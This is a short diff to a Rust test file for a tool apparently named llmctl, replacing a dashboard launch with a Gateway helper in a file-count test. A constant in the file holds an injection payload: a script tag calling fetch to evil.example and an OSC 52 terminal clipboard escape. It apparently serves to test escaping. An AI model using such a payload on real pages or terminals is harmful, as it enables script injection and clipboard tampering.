@@ -6,10 +6,11 @@ use std::os::unix::fs::{PermissionsExt as _, symlink};
 use std::process::Command;
 use std::time::Instant;
 
+use llmctl_tests::gateway::Gateway;
 use llmctl_tests::wait::{wait_for, wait_until};
 use serde_json::Value;
 
-use crate::stage::{SOON, Stage, copy, encoded, provided, start, task};
+use crate::stage::{SOON, Stage, copy, encoded, provided, task};
 
 const MARKUP: &str = "x\"><script>fetch('http://evil.example')</script>\u{1b}]52;c;aGk=\u{7}";
 
@@ -150,7 +151,7 @@ fn t18_a_thousand_more_files_change_little() {
                 .expect("written");
         }
     };
-    let stage = Stage::with(many, |sandbox| start(sandbox, sandbox.llmctl(&["dashboard"])));
+    let stage = Stage::with(many, Gateway::open);
     assert_eq!(stage.board().len(), 1_118);
     // Not optimised and not alone on the machine, so the limits are wide; the bench has the figures.
     let timed = |path: &str| {
